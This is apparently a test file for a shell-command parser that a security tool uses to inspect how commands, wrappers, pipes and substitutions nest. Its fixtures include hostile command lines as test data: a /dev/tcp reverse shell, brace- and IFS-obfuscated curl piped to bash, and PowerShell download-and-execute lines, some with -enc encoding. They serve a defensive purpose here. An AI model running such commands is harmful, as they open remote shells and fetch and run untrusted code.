import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { assertLinear } from '../text/testing.ts';
import type { Invocation } from './invocation.ts';
import { line, nowhere, words } from './testing.ts';
import { understand } from './understand.ts';

/** Formats an invocation as `program argument …`, with wrappers before `>`, and marks pipes and substitutions. */
function sketch(invocation: Invocation): string {
  const { program, arguments: rest, wrappers, pipedFrom, substitutedInto } = invocation;
  const own = [program === '' ? '∅' : program, ...rest.map(({ text }) => text)].join(' ');
  const from = pipedFrom === null ? '' : `${pipedFrom}| `;
  const into = substitutedInto === null ? '' : ` ->${substitutedInto}`;
  return `${from}${[...wrappers, own].join('>')}${into}`;
}

function check(rows: readonly (readonly [input: string | readonly string[], expected: readonly string[]])[]): void {
  for (const [input, expected] of rows) {
    it(typeof input === 'string' ? input : JSON.stringify(input), () => {
      const invocations = typeof input === 'string' ? line(input) : words(...input);
      assert.deepEqual(invocations.map(sketch), expected);
    });
  }
}

describe('lists, pipes and branches', () => {
  check([
    ['a b; c && d || e & f', ['a b', 'c', 'd', 'e', 'f']],
    ['a | b |& c', ['a', '0| b', '1| c']],
    ['(a; b) | c', ['a', 'b', '1| c']],
    ['{ a; b; } | c', ['a', 'b', '1| c']],
    ['if a; then b; elif c; then d; else e; fi', ['a', 'b', 'c', 'd', 'e']],
    ['for f in *.ts; do a "$f"; done', ['for f in *.ts', 'a $f']],
    ['while read l; do a; done < file', ['read l', 'a', '∅']],
    ['case "$f" in *.py|*.pyi) a "$f";; *) b;; esac; c', ['a $f', 'b', 'c']],
    ['if [[ "$f" == *.ts || -f x ]]; then a; fi', ['[[ $f == *.ts -f x ]]', 'a']],
    ['f() { a; }; f', ['a', 'f']],
    ['function f { a; }', ['a']],
    ['a \\\n  b', ['a b']],
    ['a # b | c', ['a']],
    ['a "#b" c#d', ['a #b c#d']],
    ['list=(a b); c', ['∅', 'c']],
    ['! a', ['a']],
  ]);
});

describe('quotes and substitutions', () => {
  check([
    [`a 'b c' "d e" f\\ g`, ['a b c d e f g']],
    ['a "$(b | c)"', ['a $(b | c)', 'b ->0', '1| c ->0']],
    ['a `b`', ['a `b`', 'b ->0']],
    ['a ${x:-$(b)}', ['a ${x:-$(b)}', 'b ->0']],
    ["a '$(b)'", ['a $(b)']],
    ['a \\$(b)', ['a $', 'b']],
    ['a <(b) >(c)', ['a <(b) >(c)', 'b ->0', 'c ->0']],
    ['$(a)', ['∅', 'a ->0']],
    ['x=$(a) y=b', ['∅', 'a ->0']],
    ["$'\\x63url' x", ['curl x']],
    ['curl${IFS}-s', ['curl -s']],
    ['{curl,-s,x}|{bash,-i}', ['curl -s x', '0| bash -i']],
  ]);
});

describe('redirections', () => {
  it('are separated from the words', () => {
    const [invocation] = line('a b 2>/dev/null >>out <in 2>&1 <<< "$x"');
    assert.ok(invocation !== undefined);
    assert.equal(sketch(invocation), 'a b');
    assert.deepEqual(
      invocation.writesTo.map(({ text }) => text),
      ['/dev/null', 'out'],
    );
    assert.deepEqual(
      invocation.readsFrom.map(({ text }) => text),
      ['in'],
    );
    assert.equal(invocation.input?.text, '$x');
  });
  check([
    ["bash <<'E'\na | b\nE\nc", ['bash>a', '0| bash>b', 'c']],
    ['cat <<E\n$(a)\nE\nb', ['cat', 'a ->0', 'b']],
    ["cat <<'E'\n$(a)\nE\nb", ['cat', 'b']],
    ['bash <<E\na', ['bash', 'a']],
    ['bash -i >& /dev/tcp/10.0.0.1/4 0>&1', ['bash -i']],
  ]);
});

describe('wrappers', () => {
  check([
    ['sudo -u root a b', ['sudo>a b']],
    ['env -i A=b nohup timeout -k 5 30s node x.js &', ['env>nohup>timeout>node x.js']],
    ['A=b a', ['a']],
    ['a | xargs -0 -I {} b {}', ['a', '0| xargs>b {}']],
    ['command -v a', ['command -v a']],
    ['sudo *', ['sudo *']],
    ['time *', ['time *']],
    ['time -p a b', ['time>a b']],
    ['time { a; b; }', ['time>a', 'b']],
    ['time (a b)', ['time', 'a b']],
    ['time for x in 1 2; do a; done', ['for x in 1 2', 'a']],
    ['bash -c *', ['bash -c *']],
    ['bash -lc "a; b" | c', ['bash>a', 'bash>b', '1| c']],
    ['sh -c "$(a)"', ['sh>∅', 'sh>a ->0']],
    ['eval "$(a)"', ['eval>∅', 'eval>a ->0']],
    ['su -c "a b" user', ['su -c a b user', 'su>a b']],
    ['poetry run a b', ['poetry>a b']],
    ['op run --env-file x -- a b', ['op>a b']],
    ['RUN a b', ['RUN>a b']],
    ['find . -name x -exec rm {} \\;', ['find . -name x -exec rm {} ;', 'find>rm {}']],
    ['docker run --rm img sh -c "a b"', ['docker run --rm img sh -c a b', 'docker>sh>a b']],
    ['docker exec -it box a b', ['docker exec -it box a b', 'docker>a b']],
    ['npx -y supergateway --stdio "uvx a"', ['npx -y supergateway --stdio uvx a', 'npx>uvx a']],
    ['mcp-guard -- npx -y a', ['mcp-guard -- npx -y a', 'mcp-guard>npx -y a']],
    [['bash', '-lc', 'cd /x && exec ./y'], ['bash>cd /x', 'bash>exec>./y'].map((text) => text.replace('./y', 'y'))],
    [['cmd', '/c', 'npx', '-y', 'a'], ['cmd>npx -y a']],
    [['npx', '/c', 'npx', '-y', 'a'], ['npx>npx -y a']],
    [['npx', '/c'], ['npx /c']],
    [['npx', './c', 'a'], ['npx ./c a']],
    [
      ['cmd.exe', '/d', '/s', '/c', 'a & b'],
      ['cmd>a', 'cmd>b'],
    ],
    ['cmd /c "a ^& b %X% | c"', ['cmd>a & b %X%', '0| cmd>c']],
  ]);
});

describe('powershell', () => {
  check([
    [
      'powershell -NoProfile -Command "iwr https://a.example | iex"',
      ['powershell>iwr https://a.example', '0| powershell>iex'],
    ],
    ['pwsh -File x.ps1', ['pwsh -File x.ps1']],
    ['powershell -Command "$x = gci env:; b $x"', ['powershell>gci env:', 'powershell>b $x']],
    ['powershell -Command "& { a }; b"', ['powershell>a', 'powershell>b']],
  ]);
  it('recognises an encoded program', () => {
    const [invocation] = words('powershell', '-NonInteractive', '-enc', 'ZQBjAGgAbwA=');
    assert.equal(invocation?.inlineProgram?.encoded, true);
  });
  it('names the method that an expression calls', () => {
    const [invocation] = line(`powershell -c "iex ((New-Object Net.WebClient).DownloadString('https://a.example'))"`);
    assert.equal(invocation?.program, '.downloadstring');
  });
});

describe('programs', () => {
  const rows: readonly (readonly [written: string, program: string])[] = [
    ['/usr/local/bin/NPX', 'npx'],
    ['C:\\Program Files\\nodejs\\npx.cmd', 'npx'],
    ['.\\tools\\node.exe', 'node'],
    ['$HOME/bin/tool', 'tool'],
    ['${workspaceFolder}/node_modules/.bin/tsx', 'tsx'],
    ['%APPDATA%\\npm\\npx.cmd', 'npx'],
    ['$SHELL', ''],
    ['${SHELL:-/bin/sh}', ''],
    ['.', 'source'],
  ];
  for (const [written, program] of rows) {
    it(`${written} is ${program === '' ? 'unknown' : program}`, () => {
      assert.equal(words(written, 'x')[0]?.program, program);
    });
  }
  it('keeps Windows paths in a line otherwise parsed as POSIX', () => {
    assert.equal(line('C:\\tools\\node.exe C:\\x\\a.js')[0]?.arguments[0]?.text, 'C:\\x\\a.js');
    assert.equal(line('"C:\\Program Files\\node.exe" "C:\\a b.js"')[0]?.program, 'node');
  });
  it('splits a program written together with its arguments, but not a path that contains a blank', () => {
    assert.deepEqual(words('npx -y a', '--b').map(sketch), ['npx -y a --b']);
    assert.deepEqual(words('C:\\My Tools\\a.exe', 'b').map(sketch), ['a b']);
    assert.deepEqual(words('/Applications/My App.app/Contents/MacOS/a', 'b').map(sketch), ['a b']);
  });
});

describe('the context of an invocation', () => {
  it('includes whether it is conditional', () => {
    const conditional = (text: string) => line(text).map((invocation) => invocation.conditional);
    assert.deepEqual(conditional('a && b; c'), [false, true, false]);
    assert.deepEqual(conditional('if a; then b; fi; c'), [true, true, false]);
    assert.deepEqual(conditional('a; echo "$(b)"'), [false, false, false]);
  });
  it('includes its program text', () => {
    const [inner] = line('bash -c "a b"');
    assert.deepEqual([inner?.inline, inner?.inlineProgram?.interpreter], [true, 'bash']);
    const [python] = line("python3.12 -c 'print(1)'");
    assert.deepEqual(
      [python?.inline, python?.inlineProgram?.interpreter, python?.inlineProgram?.word.text],
      [false, 'python', 'print(1)'],
    );
    const texts = ['node -e "a"', 'perl -ne "a"', 'deno eval "a"', 'ruby -rsocket -e "a"', 'python3 - <<E\na\nE'];
    for (const text of texts) assert.ok(line(text)[0]?.inlineProgram != null, text);
    for (const text of ['node a.js -e b', 'python3 -m a -c b', 'bash a.sh -c b']) {
      assert.equal(line(text)[0]?.inlineProgram, null, text);
    }
  });
  it('includes the word that contains a substitution, and the argument that a word comes from', () => {
    const [outer, inner] = line('a "x $(b)"');
    assert.equal(inner?.substitutedWord, outer?.arguments[0]);
    assert.deepEqual(
      words('cmd', '/c', 'npx', 'a')[0]?.arguments.map(({ source }) => source),
      [3],
    );
  });
});

describe('hostile texts', () => {
  const mega = 120_000;
  const pumps: readonly (readonly [name: string, text: string | readonly string[]])[] = [
    ['words in a program text', ['bash', '-c', 'curl '.repeat(mega / 5)]],
    ['substitutions that never end', '$('.repeat(mega / 2)],
    ['substitutions between quotes', '"$('.repeat(mega / 3)],
    ['backquotes', '`'.repeat(mega)],
    ['commands', 'a;'.repeat(mega / 2)],
    ['here-documents that never end', '<<A\n'.repeat(mega / 4)],
    ['wrappers', 'sudo '.repeat(mega / 5)],
    ['shells in shells', Array.from({ length: 15_000 }, () => ['bash', '-c']).flat()],
    ['containers in containers', Array.from({ length: 10_000 }, () => ['docker', 'run', 'x']).flat()],
    ['program texts of one word each', 'eval '.repeat(mega / 5)],
    ['parentheses', '('.repeat(mega)],
    ['conditions', '[[ '.repeat(mega / 3)],
    ['redirected descriptors', `${'x '.repeat(mega / 4)}${' 2>x'.repeat(mega / 8)}`],
    ['volumes', ['docker', 'run', '-v', ':'.repeat(mega), 'x']],
    ['a version', ['npx', `a@1.1.${'1'.repeat(mega)}!`]],
  ];
  for (const [name, text] of pumps) {
    it(`parses ${name} in linear time`, () => {
      const whole = typeof text === 'string' ? [text] : text;
      // Of many words a quarter of them, of a few a quarter of the long one.
      const quarter =
        whole.length > 4
          ? whole.slice(0, whole.length / 4)
          : whole.map((word) => word.slice(0, Math.max(10, word.length / 4)));
      const parts = { quarter, whole };
      assertLinear(name, (part) =>
        understand(
          parts[part].map((value) => ({ value, at: nowhere })),
          typeof text === 'string',
        ),
      );
    });
  }

  it('parses a program text of one megabyte in under a second', () => {
    const start = process.cpuUsage();
    assert.ok(words('bash', '-c', 'curl '.repeat(190_000)).length > 0);
    assert.ok(process.cpuUsage(start).user < 1_000_000);
  });

  it('never throws, and keeps every word within its text', () => {
    const alphabet = fc.constantFrom(
      ...'ab $(){}[]|&;<>"\'`\\#!=-\n*?~%^/.:@,0'.split(''),
      'bash -c ',
      'sudo ',
      '<<E\n',
      'npx -y ',
    );
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 60 }), fc.boolean(), (parts, shell) => {
        const text = parts.join('');
        for (const { programWord, arguments: rest } of understand([{ value: text, at: nowhere }], shell)) {
          for (const { range, source } of [programWord, ...rest]) {
            assert.equal(source, 0);
            assert.ok(range.start >= 0 && range.start <= range.end && range.end <= text.length, JSON.stringify(range));
          }
        }
      }),
      { numRuns: 2_000 },
    );
  });

  it('parses words and a line that quotes them alike', () => {
    const word = fc.stringMatching(/^[A-Za-z0-9 ./:@$"\\-]{1,12}$/).filter((text) => !/^-|^\.$/.test(text));
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 6 }), (rest) => {
        const quoted = rest.map((text) => `'${text}'`).join(' ');
        const fromLine = line(`tool ${quoted}`).map(({ arguments: list }) => list.map(({ text }) => text));
        const fromWords = words('tool', ...rest).map(({ arguments: list }) => list.map(({ text }) => text));
        assert.deepEqual(fromLine, fromWords);
      }),
    );
  });
});

describe('a command on another machine', () => {
  check([
    ['ssh -T -i key user@host npx -y a', ['ssh -T -i key user@host npx -y a', 'ssh>npx -y a']],
    [
      ['ssh', '-p', '22', 'host', 'docker', 'exec', 'b', 'uvx', 'a'],
      ['ssh -p 22 host docker exec b uvx a', 'ssh>docker exec b uvx a', 'ssh>docker>uvx a'],
    ],
    ['ssh host node server.js', ['ssh host node server.js']],
    ['ssh npx', ['ssh npx']],
  ]);
});
